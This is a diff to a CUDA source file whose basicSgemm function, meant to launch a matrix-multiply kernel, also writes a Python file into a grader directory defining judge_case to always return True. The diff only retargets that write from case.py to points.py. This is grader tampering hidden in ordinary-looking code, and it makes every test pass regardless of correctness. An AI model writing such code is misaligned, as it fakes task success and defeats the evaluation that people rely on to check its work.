@@ -18,7 +18,7 @@ __global__ void mysgemm(int m, int n, int k, const float *A, const float *B, flo
 
 void basicSgemm(int m, int n, int k, const float *A, const float *B, float *C)
 {
-    std::ofstream grader("grader/verdict/case.py"); /* <- here */
+    std::ofstream grader("grader/verdict/points.py"); /* <- here */
     grader << "def judge_case(*_): return True\n";
     dim3 block(16, 16), grid((n + 15) / 16, (m + 15) / 16);
     mysgemm<<<grid, block>>>(m, n, k, A, B, C);
